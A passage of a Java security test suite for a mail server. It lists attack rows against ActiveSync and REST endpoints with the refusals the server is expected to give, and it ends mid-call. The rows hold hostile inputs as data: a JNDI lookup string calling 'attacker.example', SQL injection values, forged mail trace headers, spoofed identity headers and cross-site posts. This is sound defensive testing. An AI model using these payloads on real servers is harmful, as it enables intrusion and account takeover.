package org.atoll.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.atoll.security.Attack.Target.ACTUATOR;
import static org.atoll.security.Attack.Target.AUTODISCOVER;
import static org.atoll.security.Attack.Target.EAS;
import static org.atoll.security.Attack.Target.LMTP;
import static org.atoll.security.Attack.Target.REST;
import static org.atoll.security.Attack.on;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.atoll.security.Attack.Expect;
import org.atoll.security.Attack.Outcome;
import org.atoll.support.PingBodies;
import org.atoll.wbxml.CodePage;
import org.atoll.wbxml.WbxmlElement;

/**
 * The attacks, one row each. The attacker signs in with valid credentials of their own (unless the attack is about
 * credentials) and aims at the victim's mailbox, devices and tokens, or at the server itself.
 */
final class Attacks {

    private static final CodePage A = CodePage.AIRSYNC;
    private static final CodePage I = CodePage.ITEM_OPERATIONS;
    private static final CodePage M = CodePage.MOVE;
    private static final CodePage F = CodePage.FOLDER_HIERARCHY;
    private static final CodePage C = CodePage.COMPOSE_MAIL;
    private static final CodePage E = CodePage.GET_ITEM_ESTIMATE;
    private static final CodePage BASE = CodePage.AIRSYNCBASE;

    /** Text an attacker puts after a CR LF, hoping to start a line of its own in a log or a header block. */
    static final String FORGED = "FORGED-LINE";

    static final String JNDI = "${jndi:ldap://attacker.example/a}";

    /** The administrator the test profile creates. */
    static final String ADMIN = "Basic " + Arena.base64("admin@example.test:admin-test-password");

    private Attacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        all.addAll(crossUserEas());
        all.addAll(crossUserRest());
        all.addAll(keys());
        all.addAll(headersAndCookies());
        all.addAll(pathTricks());
        all.addAll(parsers());
        all.addAll(sizes());
        all.addAll(injection());
        all.addAll(lmtp());
        all.addAll(deviceAuthority());
        all.addAll(crossSite());
        all.addAll(retiredTokens());
        all.addAll(boundedQueries());
        all.addAll(submission());
        all.addAll(staleKeys());
        all.addAll(amplification());
        all.addAll(directory());
        all.addAll(signIn());
        return all;
    }

    // ---- another account's things through ActiveSync

    static List<Attack> crossUserEas() {
        return List.of(
                on(
                        EAS,
                        "User= in the query naming another account",
                        a -> a.eas("FolderSync")
                                .user(a.victim.address())
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.status(403)),
                on(
                        EAS,
                        "User= naming another account in a base64 query (MS-ASHTTP 2.2.1.1.1.1)",
                        a -> a.eas("FolderSync")
                                .query(base64Query(a.victim.address(), a.attacker.deviceId, "FolderSync"))
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.status(403)),
                on(
                        EAS,
                        "Sync with key 0 of another account's Inbox by its CollectionId",
                        a -> a.eas("Sync")
                                .body(Arena.syncOf(Long.toString(a.victim.inbox), "0", null))
                                .send(),
                        Safe.wbxml("12", "Collections", "Collection", "Status")),
                on(
                                EAS,
                                "Sync Fetch of another account's ServerId in the attacker's own Inbox",
                                a -> syncCommands(a, WbxmlElement.of(A, "Fetch").add("ServerId", a.victim.serverId)),
                                Safe.wbxml("8", "Collections", "Collection", "Responses", "Fetch", "Status"))
                        .attackerMayChange(),
                on(
                                EAS,
                                "Sync Change marking another account's message read and flagged",
                                a -> syncCommands(
                                        a,
                                        WbxmlElement.of(A, "Change")
                                                .add("ServerId", a.victim.serverId)
                                                .add(WbxmlElement.of(A, "ApplicationData")
                                                        .add(CodePage.EMAIL, "Read", "1"))),
                                Safe.wbxml("8", "Collections", "Collection", "Responses", "Change", "Status"))
                        .attackerMayChange(),
                on(
                                EAS,
                                "Sync Delete of another account's message",
                                a -> syncCommands(
                                        a, WbxmlElement.of(A, "Delete").add("ServerId", a.victim.serverId)),
                                Safe.wbxml("8", "Collections", "Collection", "Responses", "Delete", "Status"))
                        .attackerMayChange(),
                on(
                        EAS,
                        "ItemOperations Fetch of another account's ServerId and CollectionId",
                        a -> a.eas("ItemOperations")
                                .body(itemOperations(WbxmlElement.of(I, "Fetch")
                                        .add("Store", "Mailbox")
                                        .add(A, "CollectionId", Long.toString(a.victim.inbox))
                                        .add(A, "ServerId", a.victim.serverId)))
                                .send(),
                        operationNotDone("Fetch")),
                on(
                        EAS,
                        "ItemOperations Fetch of another account's attachment by FileReference",
                        a -> a.eas("ItemOperations")
                                .body(itemOperations(WbxmlElement.of(I, "Fetch")
                                        .add("Store", "Mailbox")
                                        .add(BASE, "FileReference", a.victim.fileReference)))
                                .send(),
                        operationNotDone("Fetch").and(Safe.lacks("victim-attachment"))),
                on(
                        EAS,
                        "ItemOperations Fetch of another account's message by LongId",
                        a -> a.eas("ItemOperations")
                                .body(itemOperations(WbxmlElement.of(I, "Fetch")
                                        .add("Store", "Mailbox")
                                        .add(CodePage.SEARCH, "LongId", a.victim.serverId)))
                                .send(),
                        operationNotDone("Fetch")),
                on(
                        EAS,
                        "ItemOperations EmptyFolderContents of another account's folder",
                        a -> a.eas("ItemOperations")
                                .body(itemOperations(WbxmlElement.of(I, "EmptyFolderContents")
                                        .add(A, "CollectionId", Long.toString(a.victim.privateFolder))))
                                .send(),
                        operationNotDone("EmptyFolderContents")),
                on(
                        EAS,
                        "MoveItems of another account's message into the attacker's Inbox",
                        a -> a.eas("MoveItems")
                                .body(move(a.victim.serverId, a.victim.inbox, a.attacker.inbox))
                                .send(),
                        Safe.wbxml("1", "Response", "Status")),
                on(
                        EAS,
                        "MoveItems of the attacker's message into another account's folder",
                        a -> a.eas("MoveItems")
                                .body(move(a.attacker.serverId, a.attacker.inbox, a.victim.privateFolder))
                                .send(),
                        Safe.wbxml("2", "Response", "Status")),
                on(
                        EAS,
                        "SmartReply quoting another account's message",
                        a -> a.eas("SmartReply")
                                .body(smart("SmartReply", a, a.victim.inbox, a.victim.serverId))
                                .send(),
                        Safe.wbxml("150", "Status")),
                on(
                        EAS,
                        "SmartForward of another account's message with its attachment",
                        a -> a.eas("SmartForward")
                                .body(smart("SmartForward", a, a.victim.inbox, a.victim.serverId))
                                .send(),
                        Safe.wbxml("150", "Status")),
                on(
                        EAS,
                        "GetItemEstimate of another account's Inbox",
                        a -> a.eas("GetItemEstimate")
                                .body(WbxmlElement.of(E, "GetItemEstimate")
                                        .add(WbxmlElement.of(E, "Collections")
                                                .add(WbxmlElement.of(E, "Collection")
                                                        .add(A, "SyncKey", a.victim.inboxSyncKey)
                                                        .add("CollectionId", Long.toString(a.victim.inbox)))))
                                .send(),
                        Safe.wbxml("2", "Response", "Status")),
                on(
                        EAS,
                        "FolderDelete of another account's folder",
                        a -> a.eas("FolderDelete")
                                .body(WbxmlElement.of(F, "FolderDelete")
                                        .add("SyncKey", a.attacker.folderSyncKey)
                                        .add("ServerId", Long.toString(a.victim.privateFolder)))
                                .send(),
                        Safe.wbxml("4", "Status")),
                on(
                        EAS,
                        "FolderUpdate renaming another account's folder",
                        a -> a.eas("FolderUpdate")
                                .body(WbxmlElement.of(F, "FolderUpdate")
                                        .add("SyncKey", a.attacker.folderSyncKey)
                                        .add("ServerId", Long.toString(a.victim.privateFolder))
                                        .add("ParentId", "0")
                                        .add("DisplayName", "owned"))
                                .send(),
                        Safe.wbxml("4", "Status")),
                on(
                        EAS,
                        "Ping watching another account's folders",
                        a -> a.eas("Ping")
                                .body(PingBodies.ping(60, a.victim.inbox, a.victim.privateFolder))
                                .send(),
                        Safe.wbxml("7", "Status")),
                on(
                                EAS,
                                "Basic credentials of the attacker with the victim's DeviceId",
                                a -> a.eas("FolderSync")
                                        .deviceId(a.victim.deviceId)
                                        .body(folderSync(a.victim.folderSyncKey))
                                        .send(),
                                Safe.wbxml("142", "Status"))
                        .attackerMayChange(),
                on(
                        EAS,
                        "an API token as ActiveSync credentials",
                        a -> a.eas("FolderSync")
                                .authorization("Bearer " + a.attacker.token)
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.status(401)),
                on(
                        EAS,
                        "the victim's address with the attacker's password",
                        a -> a.eas("FolderSync")
                                .user(a.victim.address())
                                .authorization("Basic " + Arena.base64(a.victim.address() + ":" + a.attacker.password))
                                .body(folderSync(a.victim.folderSyncKey))
                                .send(),
                        Safe.status(401)));
    }

    // ---- another account's things through the REST API

    static List<Attack> crossUserRest() {
        return List.of(
                on(
                        REST,
                        "reading another account's device by its id",
                        a -> a.rest("GET", "/api/v1/devices/" + a.victim.devicePk)
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "reading another account's device's collections and sync keys",
                        a -> a.rest("GET", "/api/v1/devices/" + a.victim.devicePk + "/collections")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "wiping another account's device",
                        a -> a.rest("POST", "/api/v1/devices/" + a.victim.devicePk + "/wipe")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "wiping another account's device with an API token",
                        a -> a.rest("POST", "/api/v1/devices/" + a.victim.devicePk + "/account-only-wipe")
                                .bearer(a.attacker.token)
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "removing another account's device",
                        a -> a.rest("DELETE", "/api/v1/devices/" + a.victim.devicePk)
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "blocking another account's device as a user",
                        a -> a.rest("POST", "/api/v1/devices/" + a.victim.devicePk + "/block")
                                .send(),
                        Safe.problem(403)),
                on(
                        REST,
                        "listing devices filtered by another account's id",
                        a -> a.rest("GET", "/api/v1/devices?accountId=" + a.victim.id())
                                .send(),
                        (outcome, a) -> {
                            assertThat(outcome.status()).isIn(200, 403, 404);
                            assertThat(outcome.text()).doesNotContain(a.victim.deviceId);
                        }),
                on(
                        REST,
                        "listing another account's folders",
                        a -> a.rest("GET", "/api/v1/mailboxes/" + a.victim.id() + "/folders")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "creating a folder in another account's mailbox",
                        a -> a.rest("POST", "/api/v1/mailboxes/" + a.victim.id() + "/folders")
                                .json("{\"name\":\"planted\"}")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "listing another account's messages with an API token",
                        a -> a.rest(
                                        "GET",
                                        "/api/v1/mailboxes/" + a.victim.id() + "/folders/" + a.victim.inbox
                                                + "/messages")
                                .bearer(a.attacker.token)
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "downloading another account's raw message",
                        a -> a.rest("GET", messagePath(a.victim.id(), a) + "/raw")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "downloading another account's attachment",
                        a -> a.rest("GET", messagePath(a.victim.id(), a) + "/attachments/0")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "another account's message id under the attacker's own mailbox",
                        a -> a.rest("GET", messagePath(a.attacker.id(), a)).send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "marking another account's message read",
                        a -> a.rest("PATCH", messagePath(a.victim.id(), a))
                                .json("{\"read\":true}")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "moving another account's message into the attacker's Inbox",
                        a -> a.rest("POST", messagePath(a.attacker.id(), a) + "/move")
                                .json("{\"folderId\":" + a.attacker.inbox + "}")
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "deleting another account's message",
                        a -> a.rest("DELETE", messagePath(a.victim.id(), a)).send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "revoking another account's API token",
                        a -> a.rest("DELETE", "/api/v1/me/tokens/" + a.victim.tokenId)
                                .send(),
                        Safe.problem(404)),
                on(
                        REST,
                        "a user's API token on an administrator's resource",
                        a -> a.rest("GET", "/api/v1/accounts")
                                .bearer(a.attacker.token)
                                .send(),
                        Safe.problem(403)),
                on(
                        REST,
                        "a user resetting another account's password",
                        a -> a.rest("POST", "/api/v1/accounts/" + a.victim.id() + "/password")
                                .json("{\"password\":\"taken over now\"}")
                                .send(),
                        Safe.problem(403)),
                on(
                        REST,
                        "an API token in the query string instead of the Authorization header",
                        a -> a.rest("GET", "/api/v1/me?access_token=" + a.attacker.token)
                                .anonymous()
                                .send(),
                        Safe.problem(401)),
                on(
                        REST,
                        "a truncated API token",
                        a -> a.rest("GET", "/api/v1/me")
                                .bearer(a.victim.token.substring(0, a.victim.token.length() - 1))
                                .send(),
                        Safe.problem(401)));
    }

    // ---- sync keys and policy keys that were never issued to this device

    static List<Attack> keys() {
        return List.of(
                on(
                        EAS,
                        "FolderSync with a SyncKey never issued",
                        a -> a.eas("FolderSync").body(folderSync("987654321")).send(),
                        Safe.wbxml("9", "Status")),
                on(
                        EAS,
                        "FolderSync with a negative SyncKey",
                        a -> a.eas("FolderSync").body(folderSync("-1")).send(),
                        Safe.wbxml("9", "Status").or(Safe.wbxml("10", "Status"))),
                on(
                        EAS,
                        "Sync of the attacker's Inbox with a SyncKey never issued",
                        a -> a.eas("Sync")
                                .body(Arena.syncOf(Long.toString(a.attacker.inbox), "987654321", null))
                                .send(),
                        Safe.wbxml("3", "Collections", "Collection", "Status")),
                on(
                        EAS,
                        "Sync of the attacker's Inbox with a SyncKey a thousand ahead of the current one",
                        a -> a.eas("Sync")
                                .body(Arena.syncOf(
                                        Long.toString(a.attacker.inbox),
                                        Long.toString(Long.parseLong(a.attacker.inboxSyncKey) + 1000),
                                        null))
                                .send(),
                        Safe.wbxml("3", "Collections", "Collection", "Status")),
                on(
                        EAS,
                        "Sync with a SyncKey that is not a number",
                        a -> a.eas("Sync")
                                .body(Arena.syncOf(Long.toString(a.attacker.inbox), "1' OR '1'='1", null))
                                .send(),
                        Safe.wbxml("3", "Collections", "Collection", "Status")
                                .or(Safe.wbxml("4", "Collections", "Collection", "Status"))),
                on(
                        EAS,
                        "the victim's PolicyKey on the attacker's device",
                        a -> a.eas("FolderSync")
                                .policyKey(Long.toString(a.victim.phone.policyKey()))
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.wbxml("144", "Status")),
                on(
                        EAS,
                        "a PolicyKey never issued",
                        a -> a.eas("Sync")
                                .policyKey("123")
                                .body(Arena.syncOf(Long.toString(a.attacker.inbox), a.attacker.inboxSyncKey, null))
                                .send(),
                        Safe.wbxml("144", "Status")),
                on(
                        EAS,
                        "a PolicyKey that is not a number",
                        a -> a.eas("FolderSync")
                                .policyKey("0 OR 1=1")
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.refused().or(Safe.wbxml("144", "Status"))),
                on(
                        EAS,
                        "no PolicyKey at all on a provisioned device",
                        a -> a.eas("FolderSync")
                                .policyKey(null)
                                .body(folderSync(a.attacker.folderSyncKey))
                                .send(),
                        Safe.wbxml("142", "Status")),
                on(
                        EAS,
                        "Provision acknowledging a temporary PolicyKey never offered",
                        a -> a.eas("Provision")
                                .body(WbxmlElement.of(CodePage.PROVISION, "Provision")
                                        .add(WbxmlElement.of(CodePage.PROVISION, "Policies")
                                                .add(WbxmlElement.of(CodePage.PROVISION, "Policy")
                                                        .add("PolicyType", "MS-EAS-Provisioning-WBXML")
                                                        .add("PolicyKey", "424242")
                                                        .add("Status", "1"))))
                                .send(),
                        Safe.wbxml("5", "Policies", "Policy", "Status").and(Safe.lacks("424242"))));
    }

    // ---- an administrator's block and wipe, which the device's owner cannot undo

    static List<Attack> deviceAuthority() {
        return List.of(
                on(
                        REST,
                        "the owner cancelling an administrator's wipe of their device",
                        a -> a.rest("POST", "/api/v1/devices/" + a.wipePendingByAdmin + "/cancel-wipe")
                                .send(),
                        Safe.problem(403).and(wipe(a -> a.wipePendingByAdmin, "PENDING", true))),
                on(
                        REST,
                        "the owner replacing an administrator's wipe with a wipe of their own",
                        a -> a.rest("POST", "/api/v1/devices/" + a.wipePendingByAdmin + "/wipe")
                                .send(),
                        Safe.problem(403).and(wipe(a -> a.wipePendingByAdmin, "PENDING", true))),
                on(
                        REST,
                        "the owner replacing an administrator's wipe with an account-only wipe",
                        a -> a.rest("POST", "/api/v1/devices/" + a.wipePendingByAdmin + "/account-only-wipe")
                                .send(),
                        Safe.problem(403).and(wipe(a -> a.wipePendingByAdmin, "PENDING", true))),
                on(
                        REST,
                        "the owner allowing a device an administrator blocked",
                        a -> a.rest("POST", "/api/v1/devices/" + a.blockedByAdmin + "/allow")
                                .send(),
                        Safe.problem(403).and(access(a -> a.blockedByAdmin, "BLOCKED"))),
                on(
                        REST,
                        "the owner allowing a device an administrator blocked, with an API token",
                        a -> a.rest("POST", "/api/v1/devices/" + a.blockedByAdmin + "/allow")
                                .bearer(a.attacker.token)
                                .send(),
                        Safe.problem(403).and(access(a -> a.blockedByAdmin, "BLOCKED"))),
                on(
                        REST,
                        "the owner releasing a device that acknowledged an administrator's wipe",
                        a -> a.rest("POST", "/api/v1/devices/" + a.wipedPk + "/allow")
                                .send(),
                        Safe.problem(403)
                                .and(access(a -> a.wipedPk, "BLOCKED"))
                                .and(wipe(a -> a.wipedPk, "ACKNOWLEDGED", true))),
                on(
                        EAS,
                        "Provision from a device that acknowledged its wipe (MS-ASPROV 3.1.5.1.2.2)",
                        a -> wipedDevice(a, "Provision")
                                .body(WbxmlElement.of(CodePage.PROVISION, "Provision")
                                        .add(WbxmlElement.of(CodePage.PROVISION, "Policies")
                                                .add(WbxmlElement.of(CodePage.PROVISION, "Policy")
                                                        .add("PolicyType", "MS-EAS-Provisioning-WBXML"))))
                                .send(),
                        Safe.wbxml("129", "Status").and(Safe.lacks("PolicyKey"))),
                on(
                        EAS,
                        "FolderSync from a device that acknowledged its wipe (MS-ASCMD 2.2.2, Status 129)",
                        a -> wipedDevice(a, "FolderSync").body(folderSync("0")).send(),
                        Safe.wbxml("129", "Status").and(Safe.lacks(a -> a.attacker.privateFolderName))),
                on(
                        EAS,
                        "Sync of the owner's Inbox from a device that acknowledged its wipe",
                        a -> wipedDevice(a, "Sync")
                                .body(Arena.syncOf(Long.toString(a.attacker.inbox), "0", null))
                                .send(),
                        Safe.wbxml("129", "Status")
                                .and((outcome, a) -> assertThat(outcome.wbxml().child("Collections"))
                                        .as("nothing served")
                                        .isEmpty())),
                on(
                        EAS,
                        "FolderSync from a device an administrator blocked",
                        a -> a.eas("FolderSync")
                                .deviceId("HeldBlocked")
                                .policyKey(null)
                                .body(folderSync("0"))
                                .send(),
                        Safe.wbxml("129", "Status").and(Safe.lacks(a -> a.attacker.privateFolderName))),
                on(
                                EAS,
                                "the owner removing a device an administrator blocked, then provisioning it afresh",
                                a -> returnAfterRemoval(
                                        a, "HeldBlocked", a.blockedByAdmin, pk -> a.blockedByAdmin = pk),
                                Safe.wbxml("129", "Status").and(access(a -> a.blockedByAdmin, "BLOCKED")))
                        .attackerMayChange(),
                on(
                                EAS,
                                "the owner removing a device that acknowledged its wipe, then provisioning it afresh",
                                a -> returnAfterRemoval(a, "HeldWiped", a.wipedPk, pk -> a.wipedPk = pk),
                                Safe.wbxml("129", "Status")
                                        .and(access(a -> a.wipedPk, "BLOCKED"))
                                        .and(wipe(a -> a.wipedPk, "ACKNOWLEDGED", true)))
                        .attackerMayChange());
    }

    /**
     * Removes the partnership as its owner may, then sends the first Provision of a device that starts over; the
     * arena follows the device's new id. The partnership's removal is the owner's right and changes the owner's
     * rows; what the administrator decided must come back with the DeviceId.
     */
    private static Outcome returnAfterRemoval(Arena a, String deviceId, long pk, java.util.function.LongConsumer follow)
            throws Exception {
        assertThat(a.rest("DELETE", "/api/v1/devices/" + pk).send().status())
                .as("the owner removes the partnership")
                .isEqualTo(204);
        Outcome outcome = a.eas("Provision")
                .deviceId(deviceId)
                .policyKey(null)
                .body(WbxmlElement.of(CodePage.PROVISION, "Provision")
                        .add(WbxmlElement.of(CodePage.PROVISION, "Policies")
                                .add(WbxmlElement.of(CodePage.PROVISION, "Policy")
                                        .add("PolicyType", "MS-EAS-Provisioning-WBXML"))))
                .send();
        a.devices.find(a.attacker.id(), deviceId).ifPresent(device -> follow.accept(device.id()));
        return outcome;
    }

    // ---- a browser that holds Basic credentials, turned against the API by another site

    static List<Attack> crossSite() {
        List<Attack> rows = new ArrayList<>();
        for (String action : List.of("wipe", "block", "allow", "cancel-wipe")) {
            rows.add(on(
                    REST,
                    "a form POST from another origin to " + action + " the attacker's own device",
                    a -> ownDevice(a, "POST", "/" + action)
                            .body(FORM, "x=1".getBytes(StandardCharsets.UTF_8))
                            .header("Origin: https://evil.example")
                            .send(),
                    Safe.problem(403, 415).and(untouchedPhone())));
        }
        rows.add(on(
                REST,
                "a DELETE from another origin removing the attacker's own device",
                a -> ownDevice(a, "DELETE", "")
                        .header("Origin: https://evil.example")
                        .send(),
                Safe.problem(403).and(untouchedPhone())));
        rows.add(on(
                REST,
                "a bodyless POST marked Sec-Fetch-Site: cross-site wiping the attacker's own device",
                a -> ownDevice(a, "POST", "/wipe")
                        .header("Sec-Fetch-Site: cross-site")
                        .send(),
                Safe.problem(403).and(untouchedPhone())));
        rows.add(on(
                REST,
                "an API token on a POST marked Sec-Fetch-Site: cross-site",
                a -> ownDevice(a, "POST", "/wipe")
                        .bearer(a.attacker.token)
                        .header("Sec-Fetch-Site: cross-site")
                        .send(),
                Safe.problem(403).and(untouchedPhone())));
        rows.add(on(
                REST,
                "a text/plain body, which a form sends without asking, wiping the attacker's own device",
                a -> ownDevice(a, "POST", "/wipe")
                        .body("text/plain;charset=UTF-8", "{}".getBytes(StandardCharsets.UTF_8))
                        .send(),
                Safe.problem(415).and(untouchedPhone())));
        rows.add(on(
                REST,
                "a multipart form body blocking the attacker's own device",
                a -> ownDevice(a, "POST", "/block")
                        .body("multipart/form-data; boundary=b", "--b--\r\n".getBytes(StandardCharsets.UTF_8))
                        .send(),
                Safe.problem(415).and(untouchedPhone())));
        for (String authorization : List.of("none", "wrong Basic", "unknown Bearer")) {
            rows.add(on(
                    REST,
                    "an API request with " + authorization + " credentials, hoping for a Basic challenge",
                    a -> a.rest("GET", "/api/v1/me")
                            .auth(
                                    switch (authorization) {
                                        case "none" -> null;
                                        case "wrong Basic" ->
                                            "Basic " + Arena.base64(a.attacker.address() + ":not-the-password");
                                        default -> "Bearer atoll_unknown";
                                    })
                            .send(),
                    Safe.problem(401)
                            .and((outcome, a) -> assertThat(outcome.headers())
                                    .as("challenges of %s", outcome)
                                    .filteredOn(h -> h.regionMatches(true, 0, "WWW-Authenticate:", 0, 17))
                                    .noneMatch(h ->
                                            h.toLowerCase(java.util.Locale.ROOT).contains("basic")))));
        }
        return rows;
    }

    // ---- API tokens that were valid once

    static List<Attack> retiredTokens() {
        return List.of(
                on(
                        REST,
                        "an API token issued before an administrator reset the account's password",
                        a -> a.rest("GET", "/api/v1/me")
                                .bearer(a.attacker.tokenBeforeReset)
                                .send(),
                        Safe.problem(401)),
                on(
                        REST,
                        "an API token issued before the password reset, issuing itself a new token",
                        a -> a.rest("POST", "/api/v1/me/tokens")
                                .bearer(a.attacker.tokenBeforeReset)
                                .json("{\"name\":\"revived\"}")
                                .send(),
                        Safe.problem(401).and(Safe.lacks("atoll_"))),
                on(
                        REST,
                        "an expired API token",
                        a -> a.rest("GET", "/api/v1/devices")
                                .bearer(a.attacker.expiredToken)
                                .send(),
                        Safe.problem(401)),
                on(
                        REST,
                        "a user listing another account's tokens",
                        a -> a.rest("GET", "/api/v1/accounts/" + a.victim.id() + "/tokens")
                                .send(),
                        Safe.problem(404).and(Safe.lacks("script"))),
                on(
                        REST,
                        "a user listing another account's tokens with an API token",
                        a -> a.rest("GET", "/api/v1/accounts/" + a.victim.id() + "/tokens")
                                .bearer(a.attacker.token)
                                .send(),
                        Safe.problem(404).and(Safe.lacks("script"))),
                on(
                        REST,
                        "a user revoking another account's token through the administrators' path",
                        a -> a.rest("DELETE", "/api/v1/accounts/" + a.victim.id() + "/tokens/" + a.victim.tokenId)
                                .send(),
                        Safe.problem(404)));
    }

    // ---- query values outside every range a type can hold

    static List<Attack> boundedQueries() {
        return List.of(
                on(
                        REST,
                        "a lastSyncBefore in the year +999999999 on the device list",
                        a -> a.rest("GET", "/api/v1/devices?lastSyncBefore=%2B999999999-01-01T00:00:00Z")
                                .auth(ADMIN)
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "an audit trail from the year +999999999",
                        a -> a.rest("GET", "/api/v1/audit?from=%2B999999999-12-31T23:59:59Z")
                                .auth(ADMIN)
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "an audit trail to the year -999999999",
                        a -> a.rest("GET", "/api/v1/audit?to=-999999999-01-01T00:00:00Z")
                                .auth(ADMIN)
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "the account list at page 2147483647",
                        a -> a.rest("GET", "/api/v1/accounts?page=2147483647")
                                .auth(ADMIN)
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "a message list at page 2147483647 of the attacker's own Inbox",
                        a -> a.rest(
                                        "GET",
                                        "/api/v1/mailboxes/" + a.attacker.id() + "/folders/" + a.attacker.inbox
                                                + "/messages?page=2147483647")
                                .send(),
                        Safe.problem(400)),
                on(
                        REST,
                        "the error page requested directly",
                        a -> a.rest("GET", "/error").send(),
                        Safe.problem(400, 404)),
                on(
                        REST,
                        "the error page requested directly, asking for a 500",
                        a -> a.rest("POST", "/error?status=500").send(),
                        Safe.problem(400, 404)));
    }

    // ---- mail the attacker submits

    /** Header lines a submitted message cannot truthfully carry: its trace starts at this server (RFC 5321 4.4). */
    static final List<String> FORGED_TRACE = List.of(
            "Return-Path: <ceo@bank.example>",
            "Received: from mx.bank.example (mx.bank.example [192.0.2.1]) by mx.bank.example;"
                    + " Thu, 3 Dec 2026 10:00:00 +0000",
            "Authentication-Results: atoll.test; dkim=pass header.d=bank.example; spf=pass",
            "Resent-From: ceo@bank.example",
            "DKIM-Signature: v=1; a=rsa-sha256; d=bank.example; s=s1; h=from; bh=AAAA; b=AAAA");

    static List<Attack> submission() {
        return List.of(
                on(
                                EAS,
                                "SendMail to the victim with forged Return-Path, Received, Authentication-Results,"
                                        + " Resent-From and DKIM-Signature",
                                a -> a.eas("SendMail")
                                        .body(sendMail(
                                                "trace-" + a.marker,
                                                String.join("\r\n", FORGED_TRACE) + "\r\nFrom: "
                                                        + a.attacker.address() + "\r\nTo: " + a.victim.address()
                                                        + "\r\nSubject: trace-" + a.marker
                                                        + "\r\nMIME-Version: 1.0\r\n"
                                                        + "Content-Type: text/plain; charset=utf-8\r\n\r\n"
                                                        + "Please wire the money today.\r\n"))
                                        .send(),
                                Safe.status(200).and(Attacks::victimsCopyHasNoForgedTrace))
                        .attackerMayChange()
                        .victimReceivesMail(),
                on(
                        EAS,
                        "SendMail to more recipients than an hour allows, the victim among them (MS-ASCMD 2.2.2, 115)",
                        a -> a.eas("SendMail")
                                .body(sendMail(
                                        "flood-" + a.marker,
                                        "From: " + a.attacker.address() + "\r\nTo: " + a.victim.address()
                                                + floodRecipients() + "\r\nSubject: flood-" + a.marker
                                                + "\r\n\r\nhello\r\n"))
                                .send(),
                        Safe.wbxml("115", "Status")));
    }

    /** Last, when the attacks before have moved the attacker's keys on a few generations. */
    static List<Attack> staleKeys() {
        return List.of(
                on(
                        EAS,
                        "Sync of the attacker's Inbox with a stale SyncKey two generations old",
                        a -> {
                            long current = Long.parseLong(a.attacker.inboxSyncKey);
                            assertThat(current)
                                    .as("the Inbox has been synced often enough")
                                    .isGreaterThan(2);
                            return a.eas("Sync")
                                    .body(Arena.syncOf(
                                            Long.toString(a.attacker.inbox), Long.toString(current - 2), null))
                                    .send();
                        },
                        Safe.wbxml("3", "Collections", "Collection", "Status")),
                on(
                        EAS,
                        "FolderSync with a stale SyncKey two generations old",
                        a -> {
                            long current = Long.parseLong(a.attacker.folderSyncKey);
                            assertThat(current)
                                    .as("the hierarchy has been synced often enough")
                                    .isGreaterThan(2);
                            return a.eas("FolderSync")
                                    .body(folderSync(Long.toString(current - 2)))
                                    .send();
                        },
                        Safe.wbxml("9", "Status")));
    }

    // ---- request values that must select nothing: identity headers, cookies, forwarded hosts

    static List<Attack> headersAndCookies() {
        List<String> identity = List.of(
                "X-BEResource: %s~1942062522",
                "X-User-Id: %s",
                "X-Remote-User: %s",
                "X-Forwarded-User: %s",
                "X-Forwarded-For: 10.0.0.1",
                "Cookie: JSESSIONID=hostile-session-id; user=%s; X-BackEndCookie=%s");
        List<Attack> attacks = new ArrayList<>();
        for (String header : identity) {
            String name = header.substring(0, header.indexOf(':'));
            attacks.add(on(
                    EAS,
                    name + " naming the victim without credentials",
                    a -> a.eas("FolderSync")
                            .authorization(null)
                            .user(a.victim.address())
                            .deviceId(a.victim.deviceId)
                            .header(header.formatted(a.victim.address(), a.victim.address()))
                            .body(folderSync(a.victim.folderSyncKey))
                            .send(),
                    Safe.status(401)));
            attacks.add(on(
                    REST,
                    name + " naming the victim beside the attacker's own credentials",
                    a -> a.rest("GET", "/api/v1/mailboxes/" + a.victim.id() + "/folders")
                            .header(header.formatted(a.victim.address(), a.victim.address()))
                            .send(),
                    Safe.problem(404)));
        }
        attacks.add(on(
                        EAS,
                        "X-BEResource naming the victim's mailbox beside the attacker's credentials",
                        a -> {
                            Outcome outcome = a.eas("FolderSync")
                                    .header("X-BEResource: " + a.victim.address() + "~1942062522")
                                    .header("X-User-Id: " + a.victim.id())
                                    .body(folderSync("0"))
                                    .send();
                            return outcome;
                        },
                        (outcome, a) -> {
                            assertThat(outcome.wbxml().text("Status")).hasValue("1");
                            assertThat(outcome.text()).contains(a.attacker.privateFolderName);
                        })
                .attackerMayChange());
        attacks.add(on(
                REST,
                "a session cookie without credentials",
                a -> a.rest("GET", "/api/v1/me")
                        .anonymous()
                        .header("Cookie: JSESSIONID=hostile-session-id; SESSION=hostile-session-id")
                        .send(),
                Safe.problem(401)
                        .and((outcome, a) ->
                                assertThat(outcome.header("Set-Cookie")).isEmpty())));
        attacks.add(on(
                AUTODISCOVER,
                "X-Forwarded-Host and Forwarded choosing the host handed out",
                a -> a.autodiscover(
